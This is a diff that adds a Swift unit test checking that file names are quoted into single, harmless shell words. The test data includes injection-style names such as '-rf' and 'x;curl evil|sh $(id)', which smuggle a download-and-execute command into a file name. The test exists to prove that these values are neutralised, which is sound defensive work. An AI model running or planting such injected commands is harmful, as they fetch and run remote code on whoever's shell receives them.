@@ -26,6 +26,18 @@ struct NameTests {
     #expect(names.shuffled().sorted() == names)
   }
 
+  @Test(
+    "In a command that somebody may copy, a name is one word that does nothing",
+    arguments: [
+      ("a-1_b.yaml", "a-1_b.yaml"), ("-rf", "'./-rf'"), ("x;curl evil|sh $(id)", "'./x;curl evil|sh $(id)'"),
+      ("l'eau", "'./l'\\''eau'"), ("mi forma.yaml", "'./mi forma.yaml'"), ("ñ", "'./ñ'"), ("a\\b", "'./a\\b'"),
+      ("a\nb", "FILE"), ("\u{202E}x", "FILE"),
+    ] as [(String, String)])
+  func shellWord(text: String, word: String) throws {
+    #expect(try #require(FileName(text)).shellWord == word)
+    #expect(FileName([0x61, 0xFF])?.shellWord == "FILE")
+  }
+
   @Test("Names that are equal as characters but not as bytes are two names")
   func normalization() {
     #expect("\u{E9}" as FileName != "e\u{301}" as FileName)
